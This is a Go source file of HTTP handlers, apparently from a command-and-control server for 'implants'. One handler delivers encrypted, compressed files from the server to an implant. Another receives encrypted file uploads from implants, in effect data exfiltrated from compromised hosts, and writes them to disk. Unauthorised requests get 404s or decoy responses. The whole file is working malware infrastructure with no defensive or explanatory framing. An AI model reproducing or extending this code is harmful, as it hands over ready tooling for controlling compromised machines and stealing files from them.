package handlers

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"crypto/md5"
	"encoding/hex"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"

	"github.com/go-chi/chi/v5"

	"github.com/duskrelay/beaconsrv/envelope"
	"github.com/duskrelay/beaconsrv/implant"
	"github.com/duskrelay/beaconsrv/notify"
	"github.com/duskrelay/beaconsrv/reqauth"
	"github.com/duskrelay/beaconsrv/safeio"
)

// HostedFile handles GET task_path/{file_id}: delivers a server-side file
// to the implant as a zlib-compressed, encrypted, gzip-wrapped stream
// (spec §4.7). file_id is resolved against the persistent hash mapping,
// then a filesystem scan of the uploads directory, then the legacy
// hosting_file slot — all three are tried in order.
func HostedFile(deps *Deps) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		res, rec, found := authenticate(r, deps)
		if !found {
			notFound(w)
			return
		}
		if res.TaskID == "" {
			deps.Notifier.ReportBadRequest(r.Context(), reqauth.NoTaskGUID, r.RemoteAddr, res.ImplantID)
			notFound(w)
			return
		}
		fileID := chi.URLParam(r, "file_id")

		rec.LockFileTransfer()
		defer rec.UnlockFileTransfer()

		path, filename, legacy, reason, resolved := resolveFileID(r, deps, rec, fileID)
		if !resolved {
			deps.Notifier.ReportBadRequest(r.Context(), reason, r.RemoteAddr, res.ImplantID)
			writeJSON(w, http.StatusOK, map[string]string{"status": "OK"})
			return
		}
		if legacy {
			defer rec.ClearHostingFile()
		}

		raw, err := os.ReadFile(path)
		if err != nil {
			notFound(w)
			return
		}

		var deflated bytes.Buffer
		zw := zlib.NewWriter(&deflated)
		if _, err := zw.Write(raw); err != nil {
			zw.Close()
			notFound(w)
			return
		}
		zw.Close()

		encrypted, err := envelope.EncryptString(deflated.String(), rec.EncryptionKey())
		if err != nil {
			notFound(w)
			return
		}
		encryptedName, err := envelope.EncryptString(filename, rec.EncryptionKey())
		if err != nil {
			notFound(w)
			return
		}

		var gzipped bytes.Buffer
		gw := gzip.NewWriter(&gzipped)
		if _, err := gw.Write([]byte(encrypted)); err != nil {
			gw.Close()
			notFound(w)
			return
		}
		gw.Close()

		if err := deps.Store.LogFileTransfer(r.Context(), rec.ID(), filename, int64(len(raw)), "UPLOAD"); err != nil {
			logStoreErr(r.Context(), "log file transfer", err)
		}
		logFileTransfer(r.Context(), rec.ID(), filename, int64(len(raw)), "UPLOAD")
		notifyFileTransfer(deps, r, rec.ID(), filename, int64(len(raw)), "UPLOAD")

		w.Header().Set("Content-Type", "application/x-gzip")
		w.Header().Set("Content-Encoding", "gzip")
		w.Header().Set("X-Original-Filename", encryptedName)
		w.WriteHeader(http.StatusOK)
		w.Write(gzipped.Bytes())
	}
}

// resolveFileID tries, in order: the persistent hash mapping, a scan of the
// uploads directory (inserting a mapping on match), and the legacy
// hosting_file slot. legacy is true only for the last path, so the caller
// knows to clear that slot afterward.
func resolveFileID(r *http.Request, deps *Deps, rec *implant.Record, fileID string) (path, filename string, legacy bool, reason reqauth.Reason, ok bool) {
	if err := safeio.ValidateIdentifier(fileID); err != nil {
		return "", "", false, reqauth.NotHostingFile, false
	}

	name, p, found, err := deps.Store.GetFileInfoByHash(r.Context(), fileID)
	if err != nil {
		logStoreErr(r.Context(), "get file info by hash", err)
	} else if found {
		return p, name, false, "", true
	}

	if entries, err := os.ReadDir(deps.UploadsDir); err == nil {
		for _, entry := range entries {
			if entry.IsDir() {
				continue
			}
			candidate, err := safeio.SafePath(deps.UploadsDir, entry.Name())
			if err != nil {
				continue
			}
			content, readErr := os.ReadFile(candidate)
			match := hexMD5(candidate) == fileID || hexMD5(entry.Name()) == fileID ||
				(readErr == nil && hexMD5Bytes(content) == fileID)
			if match {
				if err := deps.Store.StoreFileHashMapping(r.Context(), fileID, entry.Name(), candidate); err != nil {
					logStoreErr(r.Context(), "store file hash mapping", err)
				}
				return candidate, entry.Name(), false, "", true
			}
		}
	}

	if hf, hasSlot := rec.HostingFile(); hasSlot {
		if hexMD5(hf.Path) == fileID {
			return hf.Path, filepath.Base(hf.Path), true, "", true
		}
		return "", "", false, reqauth.IncorrectFileID, false
	}

	return "", "", false, reqauth.NotHostingFile, false
}

func hexMD5(s string) string {
	sum := md5.Sum([]byte(s))
	return hex.EncodeToString(sum[:])
}

func hexMD5Bytes(b []byte) string {
	sum := md5.Sum(b)
	return hex.EncodeToString(sum[:])
}

// DownloadedFile handles POST task_path/u: receives a file from the
// implant into its receiving_file slot (spec §4.7).
func DownloadedFile(deps *Deps) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		res, rec, found := authenticate(r, deps)
		if !found {
			notFound(w)
			return
		}
		if res.TaskID == "" {
			deps.Notifier.ReportBadRequest(r.Context(), reqauth.NoTaskGUID, r.RemoteAddr, res.ImplantID)
			notFound(w)
			return
		}

		rec.LockFileTransfer()
		defer rec.UnlockFileTransfer()

		destPath, has := rec.ReceivingFile()
		if !has {
			deps.Notifier.ReportBadRequest(r.Context(), reqauth.NotReceivingFile, r.RemoteAddr, res.ImplantID)
			writeJSON(w, http.StatusOK, map[string]string{"status": "OK"})
			return
		}

		if err := receiveFile(r, deps, rec, destPath); err != nil {
			rec.ClearReceivingFile()
			notFound(w)
			return
		}

		rec.ClearReceivingFile()
		ok(w)
	}
}

func receiveFile(r *http.Request, deps *Deps, rec *implant.Record, destPath string) error {
	body, err := safeio.LimitedReadAll(r.Body, safeio.MaxResponseBody)
	if err != nil {
		return err
	}

	gzipped, err := envelope.DecryptToBytes(string(body), rec.EncryptionKey())
	if err != nil {
		return err
	}

	gr, err := gzip.NewReader(bytes.NewReader(gzipped))
	if err != nil {
		return err
	}
	defer gr.Close()
	raw, err := io.ReadAll(gr)
	if err != nil {
		return err
	}

	if err := os.WriteFile(destPath, raw, 0o600); err != nil {
		return err
	}

	if err := deps.Store.LogFileTransfer(r.Context(), rec.ID(), filepath.Base(destPath), int64(len(raw)), "DOWNLOAD"); err != nil {
		logStoreErr(r.Context(), "log file transfer", err)
	}
	logFileTransfer(r.Context(), rec.ID(), filepath.Base(destPath), int64(len(raw)), "DOWNLOAD")
	notifyFileTransfer(deps, r, rec.ID(), filepath.Base(destPath), int64(len(raw)), "DOWNLOAD")
	return nil
}

// notifyFileTransfer records a file_transfer event via the Sink interface.
func notifyFileTransfer(deps *Deps, r *http.Request, implantID, filename string, size int64, direction string) {
	detail, _ := json.Marshal(map[string]any{"filename": filename, "size": size, "direction": direction})
	deps.Notifier.Notify(notify.Event{
		Kind: notify.KindFileTransfer, ImplantID: implantID, RemoteAddr: r.RemoteAddr, Detail: string(detail),
	})
}
